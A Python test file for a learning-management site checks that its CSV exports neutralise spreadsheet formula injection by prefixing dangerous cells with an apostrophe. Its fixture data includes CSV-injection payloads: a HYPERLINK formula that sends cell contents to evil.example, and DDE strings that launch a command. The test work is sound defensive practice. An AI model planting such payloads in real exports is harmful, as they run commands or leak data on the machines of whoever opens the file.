"""Every CSV the site exports guards the cells people type against formula injection.

A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return) as a
formula; each export must prefix such text with an apostrophe (lms/security/spreadsheet.py).
"""

from __future__ import annotations

import csv
import io

import pytest

from lms.models.types import utcnow
from lms.security.spreadsheet import safe_cell
from lms.services import attempts as attempt_service
from tests.conftest import login
from tests.quiz.conftest import GRACE

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
EXPORTS = ["/quizzes/basics-quiz/results.csv", "/partners/export/companies.csv",
           "/partners/export/people.csv", "/partners/evil/people.csv"]


@pytest.fixture()
def hostile(app, db, make):
    """A company and people whose typed names and e-mail addresses are formulas,
    each with a graded attempt at the fixture quiz."""
    org = make.org("evil", name=PAYLOADS[0])
    quiz = app.extensions["lms.content"].quiz("basics-quiz")
    for number, payload in enumerate(PAYLOADS):
        user = make.user("learner", org=org, email=f"{payload}{number}@evil.example")
        user.name = payload
        db.session.commit()
        attempt, _ = attempt_service.start_attempt(user, quiz, utcnow(), GRACE)
        attempt_service.submit(user, attempt.id, utcnow(), GRACE)
    return org


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("path", EXPORTS)
def test_each_export_guards_every_formula_start(client, make, hostile, path):
    login(client, make.user("admin"))
    response = client.get(path)
    assert response.status_code == 200, path
    assert response.headers["Content-Disposition"].startswith("attachment")
    exported = cells(response.get_data(as_text=True))
    dangerous = [c for c in exported if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == [], (path, dangerous)
    expected = {"'" + PAYLOADS[0]} if "companies" in path else {"'" + p for p in PAYLOADS}
    assert expected <= set(exported), (path, expected - set(exported))
    if "companies" not in path:  # the e-mail cell too (issue 9: it was unguarded)
        assert {f"'{p}{n}@evil.example" for n, p in enumerate(PAYLOADS)} <= set(exported), path


def test_a_partner_manager_gets_the_same_guard_on_quiz_results(client, make, hostile):
    login(client, make.user("manager", org=hostile))
    exported = cells(client.get("/quizzes/basics-quiz/results.csv").get_data(as_text=True))
    assert f"'{PAYLOADS[1]}1@evil.example" in exported
    assert not [c for c in exported if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_guard_leaves_plain_values_and_numbers_alone():
    assert safe_cell("山田 太郎") == "山田 太郎"
    assert safe_cell("taro@example.com") == "taro@example.com"
    assert safe_cell(-3) == "-3" and safe_cell(2.5) == "2.5" and safe_cell(None) == ""
    assert [safe_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
